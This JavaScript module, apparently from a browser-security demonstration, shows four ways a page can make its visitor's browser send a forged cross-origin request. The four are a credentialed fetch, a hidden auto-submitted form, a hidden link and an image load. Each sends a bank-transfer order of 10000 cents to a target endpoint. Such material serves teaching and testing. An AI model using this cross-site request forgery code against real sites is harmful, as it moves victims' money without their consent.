// The ways in which a page can have its visitor's browser send a request to another origin.

import { element } from "./element.js";

const ORDER = { from: "1", to: "3", cents: "10000" };
const PATIENCE = 10_000;
const INTERVAL = 50;

async function byFetch(target) {
  try {
    const response = await fetch(target, {
      method: "POST",
      body: new URLSearchParams(ORDER),
      credentials: "include",
    });
    return `It gave the answer to the script: ${response.status} ${await response.text()}`;
  } catch (failure) {
    return `It withheld the answer from the script: ${failure}`;
  }
}

let answer = null;

/** Opens a window that stays beside the page, so that one sees both; the one of before is closed. */
function open() {
  answer?.close();
  answer = window.open("", `answer-${Date.now()}`, "popup,width=520,height=320");
  if (!answer) {
    throw new Error("the browser blocks windows here");
  }
  return answer;
}

/** Tries to read the window as soon as it shows the answer: until then it is this page's own. */
async function lookInto(opened) {
  const end = Date.now() + PATIENCE;
  while (Date.now() < end) {
    try {
      void opened.document.body;
    } catch (failure) {
      return `It showed the answer in a window, and kept the script out: ${failure.name}`;
    }
    await new Promise((resolve) => setTimeout(resolve, INTERVAL));
  }
  return "It let the script look into the window.";
}

async function byForm(target, opened) {
  const form = element("form");
  Object.assign(form, { method: "POST", action: target, target: opened.name, hidden: true });
  for (const [name, value] of Object.entries(ORDER)) {
    const field = element("input");
    Object.assign(field, { type: "hidden", name, value });
    form.append(field);
  }
  document.body.append(form);
  form.submit();
  form.remove();
  return lookInto(opened);
}

function withOrder(target) {
  return `${target}&${new URLSearchParams(ORDER)}`;
}

async function byLink(target, opened) {
  const link = element("a");
  Object.assign(link, { href: withOrder(target), target: opened.name, hidden: true });
  document.body.append(link);
  link.click();
  link.remove();
  return lookInto(opened);
}

async function byImage(target) {
  const image = new Image();
  const loaded = new Promise((resolve) => {
    image.addEventListener("load", () => resolve("It showed the answer as an image."));
    image.addEventListener("error", () =>
      resolve("It asked for the image, and could not show the answer as one."),
    );
  });
  image.src = `${withOrder(target)}&at=${Date.now()}`;
  return loaded;
}

const WAYS = { fetch: byFetch, form: byForm, link: byLink, image: byImage };
const IN_A_WINDOW = ["form", "link"];

/**
 * Readies one of the ways. What is returned asks the bank to move money, and returns what the browser let the page see.
 * The window opens now: browsers block one that does not come of a press at once.
 */
export function prepared(way) {
  const opened = IN_A_WINDOW.includes(way) ? open() : null;
  return async (transfers, cookie) => WAYS[way](`${transfers}?cookie=${cookie}`, opened);
}
